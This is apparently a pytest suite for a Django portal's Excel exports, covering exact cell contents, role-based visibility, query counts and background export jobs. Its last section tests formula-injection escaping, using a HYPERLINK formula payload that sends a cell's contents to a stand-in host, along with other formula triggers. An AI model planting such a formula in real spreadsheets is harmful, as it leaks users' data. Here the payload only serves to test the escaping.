"""Excel exports: exact cell values, what each person may see, query counts, background job."""

import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.factories import CadreFactory, CadreRatingFactory, UnitFactory, UnitRatingFactory
from thiduaportal import excel
from thiduaportal.imports import IMPORTERS
from thiduaportal.models import Job, JobState
from units import exports
from units.imports import CADRE_COLUMNS, RATING_COLUMNS, UNIT_COLUMNS
from units.models import Cadre, UnitKind
from units.tasks import task_export_cadres

TODAY = timezone.localdate


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def sheet_rows(content: bytes) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(content))
    return [tuple(row) for row in workbook.worksheets[0].values]


def midnight(day: datetime.date) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time())


# --- Units -------------------------------------------------------------------------------


def test_unit_export_has_exact_cells(client_for, vhxh_officer, own_unit, other_unit):
    UnitFactory(
        name="Hội Nông dân xã",
        short_name="HND",
        kind=UnitKind.FRONT,
        parent=other_unit,
        address="Thôn Gia Phúc",
        phone="0243 111",
    )
    response = client_for(vhxh_officer).get(reverse("units:export_units"))
    assert response["Content-Disposition"] == (
        f'attachment; filename="danh-sach-don-vi-{TODAY():%Y-%m-%d}.xlsx"'
    )
    rows = sheet_rows(response.content)
    assert rows[0] == tuple(c.header for c in UNIT_COLUMNS)
    assert rows[1:] == [
        ("Hội Nông dân xã", "HND", "MTTQ, đoàn thể", "Phòng Kinh tế", "Không", "Thôn Gia Phúc", "0243 111"),
        ("Phòng Kinh tế", None, "Phòng, ban chuyên môn", None, "Không", None, None),
        ("Phòng Văn hóa – Xã hội", None, "Phòng, ban chuyên môn", None, "Không", None, None),
        ("Trung tâm Phục vụ hành chính công", None, "Phòng, ban chuyên môn", None, "Có", None, None),
    ]


def test_unit_staff_exports_only_their_own_unit(client_for, unit_staff, own_unit, other_unit):
    rows = sheet_rows(client_for(unit_staff).get(reverse("units:export_units")).content)
    assert [r[0] for r in rows[1:]] == [own_unit.name]


@pytest.mark.parametrize("count", [1, 50])
def test_unit_export_query_count_does_not_grow(
    client_for, vhxh_officer, count, django_assert_max_num_queries
):
    parent = UnitFactory()
    UnitFactory.create_batch(count, parent=parent)
    client = client_for(vhxh_officer)
    with django_assert_max_num_queries(6):
        response = client.get(reverse("units:export_units"))
    assert len(sheet_rows(response.content)) == count + 3  # header, parent, office unit


# --- Ratings -----------------------------------------------------------------------------


def test_rating_export_has_exact_cells(client_for, vhxh_officer, own_unit, own_cadre):
    UnitRatingFactory(unit=own_unit, year=2026, level="excellent", note="Tiêu biểu")
    CadreRatingFactory(cadre=own_cadre, year=2026, level="good")
    CadreRatingFactory(cadre=own_cadre, year=2025, level="completed")
    response = client_for(vhxh_officer).get(reverse("units:export_ratings", args=[2026]))
    assert response["Content-Disposition"] == 'attachment; filename="xep-loai-2026.xlsx"'
    rows = sheet_rows(response.content)
    assert rows[0] == tuple(c.header for c in RATING_COLUMNS)
    assert rows[1:] == [
        (2026, "Tập thể", own_unit.name, None, None, "Hoàn thành xuất sắc nhiệm vụ", "Tiêu biểu"),
        (
            2026,
            "Cá nhân",
            own_unit.name,
            "Nguyễn Thị Hưởng",
            midnight(own_cadre.date_of_birth),
            "Hoàn thành tốt nhiệm vụ",
            None,
        ),
    ]


def test_rating_export_of_unit_staff_holds_only_their_unit(client_for, unit_staff, own_cadre, other_cadre):
    CadreRatingFactory(cadre=own_cadre)
    CadreRatingFactory(cadre=other_cadre)
    rows = sheet_rows(client_for(unit_staff).get(reverse("units:export_ratings", args=[2026])).content)
    assert [r[3] for r in rows[1:]] == [own_cadre.full_name]


@pytest.mark.parametrize("count", [1, 50])
def test_rating_export_query_count_does_not_grow(
    client_for, vhxh_officer, count, django_assert_max_num_queries
):
    for unit in UnitFactory.create_batch(count):
        UnitRatingFactory(unit=unit)
        CadreRatingFactory(cadre=CadreFactory(unit=unit))
    client = client_for(vhxh_officer)
    with django_assert_max_num_queries(7):
        response = client.get(reverse("units:export_ratings", args=[2026]))
    assert len(sheet_rows(response.content)) == 2 * count + 1


def test_exported_ratings_import_again(vhxh_officer, own_unit, own_cadre):
    UnitRatingFactory(unit=own_unit, year=2026, level="good")
    CadreRatingFactory(cadre=own_cadre, year=2026, level="excellent")
    _name, content = exports.ratings_workbook(vhxh_officer, 2026)
    result = IMPORTERS["ratings"].parse(io.BytesIO(content), user=vhxh_officer)
    assert result.errors == []
    assert [(row["subject"], row["level"]) for _n, row in result.rows] == [
        ("unit", "good"),
        ("person", "excellent"),
    ]


@pytest.mark.parametrize(
    ("persona", "url", "status"),
    [
        ("other_staff", "units:export_ratings", 200),
        ("chairman", "units:export_ratings", 200),
        ("council_member", "units:export_ratings", 403),
        ("council_member", "units:export_units", 403),
    ],
)
def test_sync_export_permissions(client_for, request, persona, url, status):
    args = [2026] if url == "units:export_ratings" else []
    user = request.getfixturevalue(persona)
    assert client_for(user).get(reverse(url, args=args)).status_code == status


@pytest.mark.parametrize("url", ["units:export_units", "units:export_cadres"])
def test_anonymous_export_goes_to_login(db, url):
    response = Client().post(reverse(url))
    assert response["Location"].startswith(reverse("login"))


# --- People (background job, run inline here) ----------------------------------------------


def test_cadre_export_job_builds_the_filtered_list(
    client_for, vhxh_officer, own_unit, other_unit, django_capture_on_commit_callbacks
):
    CadreFactory(
        unit=own_unit,
        full_name="Phạm Thị Hoa",
        sex="female",
        category="vien_chuc",
        date_of_birth=datetime.date(1979, 12, 1),
        position="Kế toán",
        home_town="Quất Động",
        qualifications="Cử nhân Kế toán",
        advises_cchc=True,
    )
    CadreFactory(unit=other_unit, category="vien_chuc", full_name="Đỗ Văn Bình")
    CadreFactory(unit=other_unit, category="cong_chuc")
    CadreFactory(unit=own_unit, category="vien_chuc", left=True)
    client = client_for(vhxh_officer)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("units:export_cadres") + "?category=vien_chuc")
    job = Job.objects.get()
    assert response["Location"] == reverse("job_detail", args=[job.pk])
    assert (job.owner, job.kind, job.params, job.state, job.row_count) == (
        vhxh_officer,
        "units.cadres",
        {"filters": {"category": "vien_chuc"}, "task": "units.tasks.task_export_cadres"},
        JobState.DONE,
        2,
    )
    assert job.filename == f"danh-sach-ca-nhan-{TODAY():%Y-%m-%d}.xlsx"
    page = client.get(response["Location"]).content.decode()
    assert reverse("job_download", args=[job.pk]) in page
    assert 'http-equiv="refresh"' not in page
    download = client.get(reverse("job_download", args=[job.pk]))
    rows = sheet_rows(b"".join(download.streaming_content))
    assert rows == [
        tuple(c.header for c in CADRE_COLUMNS),
        (
            "Đỗ Văn Bình",
            "Nam",
            midnight(Cadre.objects.get(full_name="Đỗ Văn Bình").date_of_birth),
            "Chuyên viên",
            "Viên chức",
            "Phòng Kinh tế",
            "Không",
            None,
            None,
        ),
        (
            "Phạm Thị Hoa",
            "Nữ",
            datetime.datetime(1979, 12, 1),
            "Kế toán",
            "Viên chức",
            "Trung tâm Phục vụ hành chính công",
            "Có",
            "Quất Động",
            "Cử nhân Kế toán",
        ),
    ]


def test_cadre_export_of_unit_staff_holds_only_their_unit(unit_staff, own_cadre, other_cadre):
    job = exports.start_cadre_export(unit_staff, {})
    task_export_cadres(job_id=str(job.pk))
    job.refresh_from_db()
    assert [r[0] for r in sheet_rows(job.file.read())[1:]] == [own_cadre.full_name]


def test_cadre_export_task_run_twice_leaves_a_done_job_alone(vhxh_officer, own_cadre):
    job = exports.start_cadre_export(vhxh_officer, {})
    task_export_cadres(job_id=str(job.pk))
    job.refresh_from_db()
    first = (job.file.name, job.finished_at)
    task_export_cadres(job_id=str(job.pk))
    job.refresh_from_db()
    assert (job.state, job.file.name, job.finished_at, job.row_count) == (JobState.DONE, *first, 1)


def test_cadre_export_with_damaged_parameters_fails_with_a_message(client_for, vhxh_officer):
    job = Job.objects.create(owner=vhxh_officer, kind="units.cadres", params={"filters": ["?"]})
    task_export_cadres(job_id=str(job.pk))
    job.refresh_from_db()
    assert job.state == JobState.FAILED
    assert job.finished_at is not None
    assert not job.file
    page = client_for(vhxh_officer).get(reverse("job_detail", args=[job.pk])).content.decode()
    assert "The export failed." in page
    assert job.error in page


def test_pending_job_page_refreshes_itself_and_announces_progress(client_for, vhxh_officer):
    job = Job.objects.create(owner=vhxh_officer, kind="units.cadres")
    page = client_for(vhxh_officer).get(reverse("job_detail", args=[job.pk])).content.decode()
    assert '<meta http-equiv="refresh" content="2">' in page
    assert 'role="status"' in page
    assert reverse("job_download", args=[job.pk]) not in page


def test_someone_elses_job_is_forbidden(client_for, vhxh_officer, chairman):
    job = Job.objects.create(owner=vhxh_officer, kind="units.cadres")
    assert client_for(chairman).get(reverse("job_detail", args=[job.pk])).status_code == 403


def test_cadre_export_accepts_post_only(client_for, vhxh_officer):
    assert client_for(vhxh_officer).get(reverse("units:export_cadres")).status_code == 405


# --- Formula injection -------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'


def test_a_person_named_like_a_formula_is_exported_as_text(client_for, vhxh_officer, own_unit):
    cadre = CadreFactory(unit=own_unit, full_name=HYPERLINK)
    CadreRatingFactory(cadre=cadre, year=2026, level="good", note="+84 912 345 678")
    response = client_for(vhxh_officer).get(reverse("units:export_ratings", args=[2026]))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    name, note = sheet.cell(row=2, column=4), sheet.cell(row=2, column=7)
    assert (name.value, name.data_type) == ("'" + HYPERLINK, "s")
    assert (note.value, note.data_type) == ("'+84 912 345 678", "s")
    assert (sheet.cell(row=2, column=1).value, sheet.cell(row=2, column=1).data_type) == (2026, "n")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)"])
def test_every_formula_trigger_is_escaped_in_the_people_list(vhxh_officer, own_unit, text):
    CadreFactory(unit=own_unit, full_name=text, home_town="Thôn Đông")
    out = io.BytesIO()
    exports.write_cadres(out, Cadre.objects.all())
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    name, home_town = sheet.cell(row=2, column=1), sheet.cell(row=2, column=8)
    assert (name.value, name.data_type) == ("'" + text, "s")
    assert home_town.value == "Thôn Đông"


def test_an_escaped_name_imports_back_as_typed(vhxh_officer, own_unit, own_cadre):
    UnitRatingFactory(unit=own_unit, year=2026, level="good", note="- giữ vững danh hiệu")
    _name, content = exports.ratings_workbook(vhxh_officer, 2026)
    result = IMPORTERS["ratings"].parse(io.BytesIO(content), user=vhxh_officer)
    assert result.errors == []
    assert [row["note"] for _n, row in result.rows] == ["- giữ vững danh hiệu"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_value_escapes_text_that_starts_a_formula_and_keeps_numbers(value, written):
    assert excel.safe_value(value) == written
